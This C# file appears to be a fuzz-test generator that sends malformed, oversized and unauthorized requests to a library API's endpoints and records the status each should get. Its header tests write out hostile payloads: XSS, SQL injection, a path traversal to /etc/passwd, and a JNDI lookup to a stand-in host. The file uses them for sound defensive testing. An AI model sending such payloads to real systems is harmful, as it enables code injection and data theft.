using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using Library.TestSupport;

namespace Library.FuzzTests;

/// <summary>What a case must get back.</summary>
public enum Expect
{
    /// <summary>Anything but a 5xx (hostile content in a request that may well be valid).</summary>
    Any,

    /// <summary>A 4xx: the request is malformed or its caller may not do this.</summary>
    Refused,

    /// <summary>One of <see cref="FuzzCase.Statuses"/>.</summary>
    Exactly,
}

/// <summary>One request of the run.</summary>
public sealed record FuzzCase(
    int Number, string Family, Endpoint Endpoint, string Caller, string Method, string PathAndQuery,
    byte[]? Body, string? ContentType, string? Authorization, IReadOnlyDictionary<string, string>? Headers,
    Expect Expect, int[] Statuses, string Note, IReadOnlyDictionary<string, string>? SentText, bool MustNotChange = false, bool Chunked = false)
{
    public override string ToString()
    {
        var url = PathAndQuery.Length > 160 ? PathAndQuery[..160] + "…" : PathAndQuery;
        return $"#{Number} [{Family}] {Caller} {Method} {url} ({Note})";
    }
}

/// <summary>
/// Makes the run from the contract's table, deterministically: one seeded <see cref="Random"/>
/// picks the payloads, fields and parameters, so the same seed sends the same requests (the IDs
/// are the world's, whatever the services gave them).
/// </summary>
public sealed class Generator(World world, int seed)
{
    private static readonly JsonSerializerOptions Raw = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private readonly Random _rng = new(seed);
    private readonly List<FuzzCase> _cases = [];
    private int _unique;

    public static readonly string[] Callers = ["anonymous", "reader", "librarian"];

    public IReadOnlyList<FuzzCase> Generate()
    {
        foreach (var endpoint in Contract.Endpoints)
        {
            var callers = endpoint.Access == Access.Admin ? [.. Callers, "admin"] : Callers;
            foreach (var caller in callers)
            {
                if (endpoint.HasBody)
                {
                    BodyFamilies(endpoint, caller);
                }
                if (endpoint.Query.Length > 0)
                {
                    QueryFamilies(endpoint, caller);
                }
                if (endpoint.Id != IdKind.None)
                {
                    PathFamily(endpoint, caller);
                }
                if (!endpoint.HasBody && endpoint.Query.Length == 0 && endpoint.Id == IdKind.None)
                {
                    // GET /api/users/me: only headers to play with.
                    Add(Payloads.WrongContentType, endpoint, caller, endpoint.Method, endpoint.Path, Encoding.UTF8.GetBytes("{\"x\":1}"), "text/plain", Expect.Any, "a body where none belongs");
                }
            }
            AuthFamily(endpoint);
            HeaderTricks(endpoint);
        }
        return _cases;
    }

    // ---- bodies ----------------------------------------------------------------------------

    private void BodyFamilies(Endpoint e, string caller)
    {
        var expectRefused = Expect.Refused;
        var mayAct = MayCall(e, caller);
        var path = ValidPath(e, caller);

        for (var i = 0; i < 3; i++)
        {
            var broken = Pick(Payloads.BrokenBodies);
            Add(Payloads.BrokenJson, e, caller, e.Method, path, Encoding.UTF8.GetBytes(broken), "application/json", expectRefused, $"body {Show(broken)}");
        }
        Add(Payloads.BrokenJson, e, caller, e.Method, path, Pick(Payloads.BrokenBytes), "application/json", expectRefused, "bytes that are not UTF-8");
        var corrupted = Corrupt(ValidBody(e, caller).Json);
        Add(Payloads.BrokenJson, e, caller, e.Method, path, Encoding.UTF8.GetBytes(corrupted.Text), "application/json", expectRefused, corrupted.How);

        for (var i = 0; i < 2; i++)
        {
            var json = ValidBody(e, caller).Json;
            var cut = _rng.Next(0, json.Length);
            Add(Payloads.Truncated, e, caller, e.Method, path, Encoding.UTF8.GetBytes(json[..cut]), "application/json", expectRefused, $"cut at {cut} of {json.Length}");
        }

        for (var i = 0; i < 2; i++)
        {
            var type = Pick(Payloads.ContentTypes);
            Add(Payloads.WrongContentType, e, caller, e.Method, path, Encoding.UTF8.GetBytes(ValidBody(e, caller).Json), type, expectRefused, $"Content-Type '{type}'");
        }
        // A JSON body declared as UTF-16 but sent as UTF-8 (may be read either way, never a 500).
        Add(Payloads.WrongContentType, e, caller, e.Method, path, Encoding.UTF8.GetBytes(ValidBody(e, caller).Json), "application/json; charset=utf-16", Expect.Any, "charset=utf-16");

        // Wrong types, one field at a time, and null everywhere.
        for (var i = 0; i < 3; i++)
        {
            var field = Pick(e.Body);
            var wrong = Pick(WrongFor(field.Kind));
            Add(Payloads.WrongTypes, e, caller, e.Method, path, BodyWith(e, caller, field.Name, wrong), Expect.Any, $"{field.Name}={Show(wrong)}");
        }
        var nulls = "{" + string.Join(",", e.Body.Select(f => $"\"{f.Name}\":null")) + "}";
        Add(Payloads.WrongTypes, e, caller, e.Method, path, Encoding.UTF8.GetBytes(nulls), "application/json", expectRefused, "null everywhere");
        var nullField = Pick(e.Body.Where(f => f.Required).DefaultIfEmpty(e.Body[0]).ToArray());
        Add(Payloads.WrongTypes, e, caller, e.Method, path, BodyWith(e, caller, nullField.Name, "null"), nullField.Required ? expectRefused : Expect.Any, $"{nullField.Name}=null");
        var wrongBody = Pick(Payloads.WrongBodies);
        Add(Payloads.WrongTypes, e, caller, e.Method, path, Encoding.UTF8.GetBytes(wrongBody), "application/json", expectRefused, $"body {wrongBody}");
        Add(Payloads.WrongTypes, e, caller, e.Method, path, Encoding.UTF8.GetBytes("[" + ValidBody(e, caller).Json + "]"), "application/json", expectRefused, "array for object");

        // Huge values.
        var number = e.Body.FirstOrDefault(f => IsNumber(f.Kind));
        if (number is not null)
        {
            for (var i = 0; i < 2; i++)
            {
                var huge = Pick(Payloads.HugeNumbers);
                Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, number.Name, huge), Expect.Any, $"{number.Name}={huge}");
            }
        }
        // Every number field of the contract at its edges, for a caller who may call the endpoint.
        if (MayCall(e, caller))
        {
            foreach (var f in e.Body.Where(f => IsNumber(f.Kind)))
            {
                foreach (var edge in Payloads.NumberEdges)
                {
                    Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, f.Name, edge), Expect.Any, $"{f.Name}={edge}");
                }
            }
        }
        var text = e.Body.Where(f => IsText(f.Kind)).ToArray();
        var target = text.Length > 0 ? Pick(text) : Pick(e.Body);
        var megabyte = new string('x', 1024 * 1024);
        Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, target.Name, JsonSerializer.Serialize(megabyte)), "application/json", Exactly(413), $"{target.Name} of 1 MB (over the body limit)");
        // Over the limit again, chunked (no Content-Length): Kestrel's own limit stops it while it is
        // read. 100 KB, not 1 MB: what the client still sends after the refusal fits in the socket's
        // buffers, so it reads the 413 instead of failing on a connection the server has closed.
        var chunked = new string('y', 100 * 1024);
        Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, target.Name, JsonSerializer.Serialize(chunked)), "application/json", Exactly(413), $"{target.Name} of 100 KB, chunked");
        _cases[^1] = _cases[^1] with { Chunked = true };
        var big = string.Concat(Enumerable.Repeat("Ab1 ", 15_000));
        Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, target.Name, JsonSerializer.Serialize(big)), mayAct ? Expect.Any : expectRefused, $"{target.Name} of 60,000 chars");
        var depth = Pick(new[] { 65, 500, 5000 });
        var nested = Pick(new[] { "[", "{\"a\":" });
        var deep = string.Concat(Enumerable.Repeat(nested, depth)) + "1" + string.Concat(Enumerable.Repeat(nested == "[" ? "]" : "}", depth));
        Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, Pick(e.Body).Name, deep), expectRefused, $"nesting depth {depth}");
        var list = e.Body.FirstOrDefault(f => f.Kind is FieldKind.AuthorIds or FieldKind.CategoryIds);
        if (list is not null)
        {
            var many = "[" + string.Join(",", Enumerable.Range(0, 900).Select(_ => $"\"{NewGuid()}\"")) + "]";
            Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, list.Name, many), expectRefused, $"{list.Name} with 900 unknown IDs");
            var repeated = "[" + string.Join(",", Enumerable.Repeat($"\"{world.AuthorIds[0]}\"", 60)) + "]";
            Add(Payloads.Huge, e, caller, e.Method, path, BodyWith(e, caller, list.Name, repeated), expectRefused, $"{list.Name} with one ID 60 times");
        }

        // Unicode and injection in the text fields (and once in a non-text field).
        for (var i = 0; i < 3; i++)
        {
            var f = text.Length > 0 ? Pick(text) : Pick(e.Body);
            var raw = _rng.Next(3) == 0 ? Pick(Payloads.RawJsonStrings) : JsonSerializer.Serialize(Pick(Payloads.UnicodeStrings), _rng.Next(2) == 0 ? Raw : null);
            Add(Payloads.Unicode, e, caller, e.Method, path, BodyWith(e, caller, f.Name, raw), Expect.Any, $"{f.Name}={Show(raw)}");
        }
        // NUL (which PostgreSQL's text cannot hold) in every text field, a lone surrogate in one.
        foreach (var f in text)
        {
            Add(Payloads.Unicode, e, caller, e.Method, path, BodyWith(e, caller, f.Name, "\"a\\u0000b\""), Expect.Any, $"{f.Name} with NUL");
        }
        var lone = text.Length > 0 ? Pick(text) : Pick(e.Body);
        Add(Payloads.Unicode, e, caller, e.Method, path, BodyWith(e, caller, lone.Name, "\"x\\ud800\""), Expect.Any, $"{lone.Name} with a lone surrogate");
        var other = Pick(e.Body);
        var weird = JsonSerializer.Serialize(Pick(Payloads.UnicodeStrings), Raw);
        Add(Payloads.Unicode, e, caller, e.Method, path, BodyWith(e, caller, other.Name, weird), Expect.Any, $"{other.Name}={Show(weird)}");
        foreach (var f in e.Body)
        {
            var payload = JsonSerializer.Serialize(Pick(Payloads.InjectionStrings), _rng.Next(2) == 0 ? Raw : null);
            Add(Payloads.Injection, e, caller, e.Method, path, BodyWith(e, caller, f.Name, payload), Expect.Any, $"{f.Name}={Show(payload)}");
        }
    }

    // ---- query strings ---------------------------------------------------------------------

    private void QueryFamilies(Endpoint e, string caller)
    {
        var path = ValidPath(e, caller);
        // Every parameter once with an injection payload, once with hostile unicode.
        foreach (var q in e.Query)
        {
            Add(Payloads.Injection, e, caller, e.Method, WithQuery(e, caller, path, q.Name, Uri.EscapeDataString(Pick(Payloads.InjectionStrings))), null, null, Expect.Any, $"{q.Name} injection");
            Add(Payloads.Unicode, e, caller, e.Method, WithQuery(e, caller, path, q.Name, Pick(Payloads.EncodedUnicode)), null, null, Expect.Any, $"{q.Name} unicode");
        }
        if (MayCall(e, caller))
        {
            foreach (var q in e.Query.Where(q => q.Kind is FieldKind.Page or FieldKind.PageSize or FieldKind.Limit))
            {
                foreach (var edge in Payloads.PagingEdges)
                {
                    Add(Payloads.Huge, e, caller, e.Method, WithQuery(e, caller, path, q.Name, edge), null, null, Expect.Refused, $"{q.Name}={edge}");
                }
            }
        }
        foreach (var q in e.Query.Where(q => IsText(q.Kind)))
        {
            Add(Payloads.Unicode, e, caller, e.Method, WithQuery(e, caller, path, q.Name, "a%00b"), null, null, Expect.Any, $"{q.Name} with NUL");
        }
        // Wrong types and huge values where numbers, GUIDs and flags belong; sizes over the limits.
        foreach (var q in e.Query.Where(q => !IsText(q.Kind)).Take(4))
        {
            var wrong = q.Kind is FieldKind.Page or FieldKind.PageSize or FieldKind.Limit ? Pick(Payloads.HugeQueryNumbers) : Pick(new[] { "abc", "", "1", "not-a-guid", "%00", "maybe", "[]", "{}", "TRUE" });
            Add(IsNumber(q.Kind) ? Payloads.Huge : Payloads.WrongTypes, e, caller, e.Method, WithQuery(e, caller, path, q.Name, Uri.EscapeDataString(wrong)), null, null, Expect.Any, $"{q.Name}={wrong}");
        }
        var text = e.Query.FirstOrDefault(q => IsText(q.Kind));
        if (text is not null)
        {
            var length = Pick(new[] { 201, 2000, 7000 });
            Add(Payloads.Huge, e, caller, e.Method, WithQuery(e, caller, path, text.Name, new string('q', length)), null, null, Expect.Any, $"{text.Name} of {length} chars");
            Add(Payloads.Huge, e, caller, e.Method, WithQuery(e, caller, path, text.Name, new string('q', 20_000)), null, null, Exactly(414), $"{text.Name} of 20,000 chars (over the request-line limit)");
        }
        // A parameter given twice, and an unknown one.
        var twice = Pick(e.Query);
        Add(Payloads.WrongTypes, e, caller, e.Method, WithQuery(e, caller, path, twice.Name, Uri.EscapeDataString(ValidValue(twice.Kind, caller)) + $"&{twice.Name}=" + Uri.EscapeDataString(ValidValue(twice.Kind, caller))), null, null, Expect.Any, $"{twice.Name} twice");
    }

    // ---- paths -----------------------------------------------------------------------------

    private void PathFamily(Endpoint e, string caller)
    {
        for (var i = 0; i < 3; i++)
        {
            var id = Pick(Payloads.PathIds);
            var random = NewGuid();
            id = id.Replace("{random}", random.ToString(), StringComparison.Ordinal)
                .Replace("{random-braced}", "%7B" + random + "%7D", StringComparison.Ordinal)
                .Replace("{random-n}", random.ToString("N"), StringComparison.Ordinal)
                .Replace("{random-upper}", random.ToString().ToUpperInvariant(), StringComparison.Ordinal)
                .Replace("{long}", new string('7', 3000), StringComparison.Ordinal);
            var (body, type) = e.HasBody ? (Encoding.UTF8.GetBytes(ValidBody(e, caller).Json), "application/json") : ((byte[]?)null, (string?)null);
            // A GUID in another form is still a GUID: a librarian may act on it (404: nobody has it).
            // An encoded dot segment is resolved before routing ("/api/authors/%2e%2e/books" is
            // "/api/books"): another path of the contract, with the same token and the same rights.
            var expect = id == "%2e%2e" ? Expect.Any : Expect.Refused;
            Add(Payloads.PathTricks, e, caller, e.Method, e.Path.Replace("{id}", id, StringComparison.Ordinal), body, type, expect, $"id '{(id.Length > 40 ? id[..40] + "…" : id)}'");
        }
        var verb = e.Method == "GET" ? "PATCH" : "PATCH";
        Add(Payloads.PathTricks, e, caller, verb, ValidPath(e, caller), null, null, Expect.Refused, "a verb the contract does not have");
        Add(Payloads.PathTricks, e, caller, e.Method, ValidPath(e, caller).Replace("/api/", "/api//", StringComparison.Ordinal), null, null, Expect.Any, "double slash");
    }

    // ---- auth ------------------------------------------------------------------------------

    private void AuthFamily(Endpoint e)
    {
        var caller = e.Access == Access.Admin ? "admin" : "librarian";
        foreach (var (kind, header) in world.BadAuthorizations)
        {
            var (body, type) = e.HasBody ? (Encoding.UTF8.GetBytes(ValidBody(e, caller).Json), "application/json") : ((byte[]?)null, (string?)null);
            _cases.Add(new FuzzCase(_cases.Count + 1, Payloads.AuthTricks, e, kind, e.Method, ValidPath(e, caller), body, type, header, null,
                Expect.Exactly, [401], $"{kind} token", null));
        }

        byte[]? Body(string who) => e.HasBody ? Encoding.UTF8.GetBytes(ValidBody(e, who).Json) : null;
        var json = e.HasBody ? "application/json" : null;
        if (e.Access != Access.Anyone)
        {
            Add(Payloads.AuthTricks, e, "anonymous", e.Method, ValidPath(e, "librarian"), Body("librarian"), json, Exactly(401), "no token");
            // A service token (audience library-internal) is not a person.
            _cases.Add(new FuzzCase(_cases.Count + 1, Payloads.AuthTricks, e, "service-token", e.Method, ValidPath(e, caller), Body(caller), json,
                $"Bearer {world.ServiceToken}", null, Expect.Exactly, [403], "service token on a person's endpoint", null));
        }
        if (e.Access is Access.Librarian or Access.Admin)
        {
            Add(Payloads.AuthTricks, e, "reader", e.Method, ValidPath(e, "librarian"), Body("librarian"), json, Exactly(403), "reader on a staff endpoint");
        }
        if (e.Access is Access.Admin)
        {
            Add(Payloads.AuthTricks, e, "librarian", e.Method, ValidPath(e, "admin"), Body("admin"), json, Exactly(403), "librarian on an admin endpoint");
        }

        // A reader acting on another reader's things.
        var b = world.ReaderB;
        switch (e.Name)
        {
            case "GET /api/users/{id}":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/users/{b.Id}", null, null, Exactly(403), "another reader's profile");
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/users/{world.Admin.Id}", null, null, Exactly(403), "the admin's profile");
                break;
            case "POST /api/loans/{id}/return":
            case "POST /api/loans/{id}/renew":
            case "GET /api/loans/{id}":
                Add(Payloads.AuthTricks, e, "reader", e.Method, e.Path.Replace("{id}", world.LoanOfB.ToString(), StringComparison.Ordinal), null, null, Exactly(403), "another reader's loan");
                Add(Payloads.AuthTricks, e, "reader", e.Method, e.Path.Replace("{id}", NewGuid().ToString(), StringComparison.Ordinal), null, null, Exactly(403), "nobody's loan");
                break;
            case "DELETE /api/holds/{id}":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/holds/{world.HoldOfB}", null, null, Exactly(403), "another reader's hold");
                break;
            case "POST /api/loans":
                Add(Payloads.AuthTricks, e, "reader", e.Method, e.Path, Json(new { bookId = world.FreeBook, days = 7, userId = b.Id }), "application/json", Exactly(403), "borrowing for another reader");
                Add(Payloads.AuthTricks, e, "deactivated", e.Method, e.Path, Json(new { bookId = world.FreeBook, days = 7 }), "application/json", Exactly(403), "a deactivated reader's still-valid token");
                AddWithHeader(e, "reader", Json(new { bookId = NewGuid(), days = 7 }), "Idempotency-Key", new string('k', 101), "Idempotency-Key of 101 chars");
                AddWithHeader(e, "reader", Json(new { bookId = NewGuid(), days = 7 }), "Idempotency-Key", "", "empty Idempotency-Key");
                AddWithHeader(e, "reader", Json(new { bookId = world.FreeBook, days = 99 }), "Idempotency-Key", "' OR 1=1 --", "SQL in Idempotency-Key, days out of range");
                break;
            case "POST /api/holds":
                Add(Payloads.AuthTricks, e, "reader", e.Method, e.Path, Json(new { bookId = world.FreeBook, userId = b.Id }), "application/json", Exactly(403), "a hold for another reader");
                break;
            case "GET /api/loans":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/loans?userId={b.Id}", null, null, Exactly(403), "another reader's loans");
                break;
            case "GET /api/holds":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/holds?userId={b.Id}", null, null, Exactly(403), "another reader's holds");
                break;
            case "GET /api/fines":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/fines?userId={b.Id}", null, null, Exactly(403), "another reader's fines");
                break;
            case "GET /api/users/{id}/account":
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/users/{b.Id}/account", null, null, Exactly(403), "another reader's account");
                Add(Payloads.AuthTricks, e, "reader", e.Method, $"/api/users/{NewGuid()}/account", null, null, Exactly(403), "nobody's account");
                break;
            case "POST /api/auth/logout":
                _cases.Add(new FuzzCase(_cases.Count + 1, Payloads.AuthTricks, e, "reader", e.Method, e.Path, Json(new { refreshToken = b.Refresh }), "application/json",
                    $"Bearer {world.ReaderA.Access}", null, Expect.Any, [], "logging out another reader's session", null, MustNotChange: true));
                break;
            case "POST /api/users":
                Add(Payloads.AuthTricks, e, "librarian", e.Method, e.Path, Json(new { email = $"fuzz-{Next()}@library.test", firstName = "Would", lastName = "Be", password = "Fuzz-password-1", role = "admin" }), "application/json", Exactly(403), "a librarian enrolling an admin");
                break;
            case "POST /api/auth/register":
                Add(Payloads.AuthTricks, e, "anonymous", e.Method, e.Path, Json(new { email = world.ReaderB.Email, firstName = "Same", lastName = "Email", password = "Fuzz-password-1" }), "application/json", Exactly(409), "another reader's email");
                break;
            case "PUT /api/users/{id}/role":
                Add(Payloads.AuthTricks, e, "admin", e.Method, $"/api/users/{world.Admin.Id}/role", Json(new { role = "member" }), "application/json", Exactly(409), "an admin demoting themself");
                break;
            case "POST /api/users/{id}/deactivate":
                Add(Payloads.AuthTricks, e, "admin", e.Method, $"/api/users/{world.Admin.Id}/deactivate", null, null, Exactly(409), "an admin deactivating themself");
                break;
        }
    }

    /// <summary>Headers a client controls: what it accepts back, and the request ID the gateway forwards.</summary>
    private void HeaderTricks(Endpoint e)
    {
        // Not as staff: their valid request would delete the world's titles, authors and categories.
        var caller = Pick(new[] { "anonymous", "reader" });
        var (body, type) = e.HasBody ? (Encoding.UTF8.GetBytes(ValidBody(e, "anonymous").Json), "application/json") : ((byte[]?)null, (string?)null);
        (string Family, string Header, string Value)[] tricks =
        [
            (Payloads.WrongContentType, "Accept", Pick(new[] { "application/xml", "text/html", "image/png", "application/json;q=0", "*/*;q=abc", "" })),
            (Payloads.Huge, "X-Request-Id", new string('r', 5000)),
            (Payloads.Injection, "X-Request-Id", Pick(new[] { "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "${jndi:ldap://evil.example/a}" })),
        ];
        foreach (var (family, header, value) in tricks)
        {
            var authorization = caller switch
            {
                "reader" => $"Bearer {world.ReaderA.Access}",
                "librarian" => $"Bearer {world.Librarian.Access}",
                _ => null,
            };
            // The path of a caller who may not use it (anonymous on a reader's endpoint): a refusal
            // the framework writes (401, 403, 404), whose problem details the Accept header must not undo.
            _cases.Add(new FuzzCase(_cases.Count + 1, family, e, caller, e.Method, ValidPath(e, caller), body, type, authorization,
                new Dictionary<string, string> { [header] = value }, MayCall(e, caller) ? Expect.Any : Expect.Refused, [], $"{header}: {Show(value)}", SentText(body)));
        }
    }

    private void AddWithHeader(Endpoint e, string caller, byte[] body, string header, string value, string note) =>
        _cases.Add(new FuzzCase(_cases.Count + 1, Payloads.AuthTricks, e, caller, e.Method, e.Path, body, "application/json", null,
            new Dictionary<string, string> { [header] = value }, Expect.Refused, [], note, null));

    // ---- valid requests, to be spoilt one part at a time ------------------------------------

    /// <summary>A path with real IDs that the caller may use (their own loan, hold, profile).</summary>
    private string ValidPath(Endpoint e, string caller)
    {
        var reader = caller == "reader";
        var id = e.Id switch
        {
            IdKind.None => "",
            IdKind.User => (reader ? world.ReaderA.Id : world.ReaderB.Id).ToString(),
            IdKind.Book => Pick(world.BookIds).ToString(),
            IdKind.Author => Pick(world.AuthorIds).ToString(),
            IdKind.Category => Pick(world.CategoryIds).ToString(),
            IdKind.Loan => (reader ? world.LoanOfA : world.LoanOfB).ToString(),
            IdKind.Hold => (reader ? world.HoldOfA : world.HoldOfB).ToString(),
            IdKind.Fine => (reader ? world.FineOfA : world.FineOfB).ToString(),
            IdKind.Block => world.BlockOfB.ToString(),
            _ => throw new ArgumentOutOfRangeException(nameof(e)),
        };
        return e.Path.Replace("{id}", id, StringComparison.Ordinal);
    }

    private (string Json, Dictionary<string, string> Fields) ValidBody(Endpoint e, string caller) =>
        (Object(e.Body.Select(f => (f.Name, ValidJson(f.Kind, caller)))), []);

    private string ValidValue(FieldKind kind, string caller) => kind switch
    {
        FieldKind.Text => "Fuzz text",
        FieldKind.Name => $"Fuzz name {Next()}",
        FieldKind.Email => $"fuzz-{Next()}-{seed}@library.test",
        FieldKind.Password => "Fuzz-password-1",
        FieldKind.Role => "member",
        FieldKind.RefreshToken => Convert.ToBase64String(Guid.NewGuid().ToByteArray()),
        FieldKind.Isbn => TestIsbn.Next(),
        FieldKind.Language => "en",
        FieldKind.Year => "1999",
        FieldKind.PageCount => "321",
        FieldKind.Copies => "2",
        FieldKind.Days => "7",
        FieldKind.BookId => world.FreeBook.ToString(),
        FieldKind.UserId => (caller == "reader" ? world.ReaderA.Id : world.ReaderB.Id).ToString(),
        FieldKind.AuthorId => Pick(world.AuthorIds).ToString(),
        FieldKind.CategoryId => Pick(world.CategoryIds).ToString(),
        FieldKind.Page => "1",
        FieldKind.PageSize => "20",
        FieldKind.Limit => "10",
        FieldKind.Bool => "true",
        FieldKind.Sort => Pick(new[] { "title", "relevance", "newest", "popular" }),
        FieldKind.LoanStatus => "active",
        FieldKind.FineStatus => "open",
        FieldKind.Amount => "1",
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    /// <summary>A valid body's JSON with one field's value replaced by <paramref name="rawJson"/>.</summary>
    private byte[] BodyWith(Endpoint e, string caller, string field, string rawJson) =>
        Encoding.UTF8.GetBytes(Object(e.Body.Select(f => (f.Name, f.Name == field ? rawJson : ValidJson(f.Kind, caller)))));

    private string ValidJson(FieldKind kind, string caller) => kind switch
    {
        FieldKind.AuthorIds => "[" + string.Join(",", world.AuthorIds.Take(2).Select(a => $"\"{a}\"")) + "]",
        FieldKind.CategoryIds => "[" + string.Join(",", world.CategoryIds.Take(1).Select(c => $"\"{c}\"")) + "]",
        FieldKind.Bool => "true",
        _ when IsNumber(kind) => ValidValue(kind, caller),
        _ => JsonSerializer.Serialize(ValidValue(kind, caller)),
    };

    private static string Object(IEnumerable<(string Name, string RawJson)> fields) =>
        "{" + string.Join(",", fields.Select(f => $"\"{f.Name}\":{f.RawJson}")) + "}";

    private string WithQuery(Endpoint e, string caller, string path, string name, string encodedValue)
    {
        // The other parameters keep valid values, so the hostile one is what is judged.
        var others = e.Query.Where(q => q.Name != name && _rng.Next(2) == 0)
            .Select(q => $"{q.Name}={Uri.EscapeDataString(ValidValue(q.Kind, caller))}");
        return path + "?" + string.Join("&", others.Append($"{name}={encodedValue}"));
    }

    private (string Text, string How) Corrupt(string json)
    {
        return _rng.Next(5) switch
        {
            0 => (json.Remove(json.IndexOf('"', StringComparison.Ordinal), 1), "first quote removed"),
            1 => (ReplaceFirst(json, ":", " "), "first colon removed"),
            2 => ("{," + json[1..], "comma after the brace"),
            3 => (json + "}", "a brace too many"),
            _ => (json[..^1] + ",}", "trailing comma"),
        };
    }

    private static string ReplaceFirst(string text, string what, string with)
    {
        var at = text.IndexOf(what, StringComparison.Ordinal);
        return at < 0 ? text + "{" : text[..at] + with + text[(at + what.Length)..];
    }

    private static string[] WrongFor(FieldKind kind) => kind switch
    {
        FieldKind.AuthorIds or FieldKind.CategoryIds => Payloads.WrongJsonForList,
        FieldKind.BookId or FieldKind.UserId or FieldKind.AuthorId or FieldKind.CategoryId => Payloads.WrongJsonForGuid,
        _ when IsNumber(kind) => Payloads.WrongJsonForNumber,
        _ => Payloads.WrongJsonForString,
    };

    private static bool IsNumber(FieldKind kind) => kind is FieldKind.Year or FieldKind.PageCount or FieldKind.Copies or FieldKind.Days or FieldKind.Amount
        or FieldKind.Page or FieldKind.PageSize or FieldKind.Limit;

    private static bool IsText(FieldKind kind) => kind is FieldKind.Text or FieldKind.Name or FieldKind.Email or FieldKind.Password
        or FieldKind.RefreshToken or FieldKind.Isbn or FieldKind.Language or FieldKind.Role or FieldKind.Sort or FieldKind.LoanStatus or FieldKind.FineStatus;

    private static bool MayCall(Endpoint e, string caller) => e.Access switch
    {
        Access.Anyone => true,
        Access.User or Access.SelfOrLibrarian or Access.OwnerOrLibrarian => caller != "anonymous",
        Access.Librarian => caller is "librarian" or "admin",
        Access.Admin => caller == "admin",
        _ => false,
    };

    private static byte[] Json(object value) => JsonSerializer.SerializeToUtf8Bytes(value);

    private void Add(string family, Endpoint e, string caller, string method, string path, byte[] body, Expect expect, string note) =>
        Add(family, e, caller, method, path, body, "application/json", expect, note);

    private void Add(string family, Endpoint e, string caller, string method, string path, byte[]? body, string? contentType, Expect expect, string note) =>
        Add(family, e, caller, method, path, body, contentType, (expect, []), note);

    private void Add(string family, Endpoint e, string caller, string method, string path, byte[]? body, string? contentType, (Expect Expect, int[] Statuses) expect, string note)
    {
        // A caller without the right is refused whatever the payload (401/403), or earlier
        // (404 for a path no endpoint has, 413 for a body over the limit).
        var outcome = expect.Expect == Expect.Any && !MayCall(e, caller) && caller != "deactivated" ? (Expect.Refused, Array.Empty<int>()) : expect;
        string? authorization = caller switch
        {
            "reader" => $"Bearer {world.ReaderA.Access}",
            "librarian" => $"Bearer {world.Librarian.Access}",
            "admin" => $"Bearer {world.Admin.Access}",
            "deactivated" => $"Bearer {world.Deactivated.Access}",
            _ => null,
        };
        _cases.Add(new FuzzCase(_cases.Count + 1, family, e, caller, method, path, body, contentType, authorization, null,
            outcome.Item1, outcome.Item2, note, SentText(body)));
    }

    private static (Expect, int[]) Exactly(params int[] statuses) => (Expect.Exactly, statuses);

    /// <summary>The string fields a body carried, decoded, for checking that an accepted one is stored verbatim.</summary>
    private static Dictionary<string, string>? SentText(byte[]? body)
    {
        if (body is null)
        {
            return null;
        }
        try
        {
            using var document = JsonDocument.Parse(body);
            if (document.RootElement.ValueKind != JsonValueKind.Object)
            {
                return null;
            }
            return document.RootElement.EnumerateObject().Where(p => p.Value.ValueKind == JsonValueKind.String)
                .ToDictionary(p => p.Name, p => p.Value.GetString()!);
        }
        catch (Exception ex) when (ex is JsonException or InvalidOperationException or ArgumentException)
        {
            return null;
        }
    }

    private T Pick<T>(IReadOnlyList<T> items) => items[_rng.Next(items.Count)];

    private Guid NewGuid()
    {
        Span<byte> bytes = stackalloc byte[16];
        _rng.NextBytes(bytes);
        return new Guid(bytes);
    }

    private int Next() => Interlocked.Increment(ref _unique);

    private static string Show(string text)
    {
        var shown = text.Length > 40 ? text[..40] + "…" : text;
        return shown.Replace("\0", "\\0", StringComparison.Ordinal).Replace("\n", "\\n", StringComparison.Ordinal);
    }

    internal static string Invariant(FormattableString text) => text.ToString(CultureInfo.InvariantCulture);
}
